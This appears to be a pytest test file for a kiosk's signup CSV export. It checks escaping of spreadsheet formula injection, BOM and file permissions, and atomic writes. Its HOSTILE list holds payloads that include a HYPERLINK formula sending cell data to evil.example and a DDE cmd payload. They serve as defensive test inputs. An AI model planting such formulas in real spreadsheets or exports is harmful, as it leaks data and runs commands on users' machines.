"""CSV for the front desk: readable in Excel, never a formula, never half a file."""

from __future__ import annotations

import csv
import stat
from datetime import UTC, datetime, timedelta

import pytest

from kiosk.signups.entry import DecryptedEntry, Signup
from kiosk.signups.export import HEADER, safe_cell, write_csv

T0 = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\tTAB",
    "\r=CR",
    "  =1+1",
]


def entry(n: int, **fields: str) -> DecryptedEntry:
    base = {"name": "Zoë Peña-Núñez", "phone": "+12025550143", "email": "zoe@example.org",
            "contact_time": "evening", "note": "", "consent_version": "en-1",
            "language": "es"}
    base.update(fields)
    return DecryptedEntry(id=n, created_at=T0 + timedelta(minutes=n),
                          contacted_at=None if n % 2 else T0 + timedelta(days=1),
                          consent_version=base["consent_version"], signup=Signup(**base))


def read_back(path):
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_escaped(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana", "O'Brien", "a=b", "1+1", "", "李小龍", "x@y.org"])
def test_harmless_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_hostile_values_are_inert_when_read_back(tmp_path):
    entries = [entry(n, name=value, note=value) for n, value in enumerate(HOSTILE, start=1)]
    entries.append(entry(99, note='comma, "quotes"\nand a newline', name="李小龍"))
    path = tmp_path / "out.csv"
    assert write_csv(entries, path) == len(HOSTILE) + 1
    rows = read_back(path)
    assert rows[0] == list(HEADER)
    for row, value in zip(rows[1:], HOSTILE, strict=False):
        assert row[2] == "'" + value
        assert row[6] == "'" + value
    assert rows[-1][2] == "李小龍"
    assert rows[-1][6] == 'comma, "quotes"\nand a newline'
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_columns_bom_times_and_privacy(tmp_path):
    path = tmp_path / "out.csv"
    write_csv([entry(1), entry(2)], path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    rows = read_back(path)
    local = T0.astimezone()
    assert rows[1] == ["1", (local + timedelta(minutes=1)).strftime("%Y-%m-%d %H:%M"),
                       "Zoë Peña-Núñez", "'+12025550143", "zoe@example.org", "evening", "",
                       "en-1", "", "es"]
    assert rows[2][8] == (local + timedelta(days=1)).strftime("%Y-%m-%d %H:%M")


def test_an_empty_list_still_has_the_header(tmp_path):
    path = tmp_path / "out.csv"
    assert write_csv([], path) == 0
    assert read_back(path) == [list(HEADER)]


def test_never_a_half_file(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("the previous export\n")

    def failing():
        yield entry(1)
        raise OSError("the USB stick was pulled")

    with pytest.raises(OSError, match="pulled"):
        write_csv(failing(), path)
    assert path.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # no temp file left

    write_csv([entry(1)], path)
    assert len(read_back(path)) == 2
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_an_unreadable_entry_fills_every_column_like_the_others(tmp_path):
    from kiosk.signups.export import UNREADABLE
    from kiosk.signups.service import UnreadableEntry

    path = tmp_path / "out.csv"
    lost = UnreadableEntry(id=9, created_at=T0, contacted_at=None, consent_version="en-1")
    write_csv([entry(1)], path, unreadable=[lost])
    rows = read_back(path)
    assert [len(row) for row in rows] == [len(HEADER)] * 3
    assert UNREADABLE in rows[-1] or UNREADABLE in rows[1]
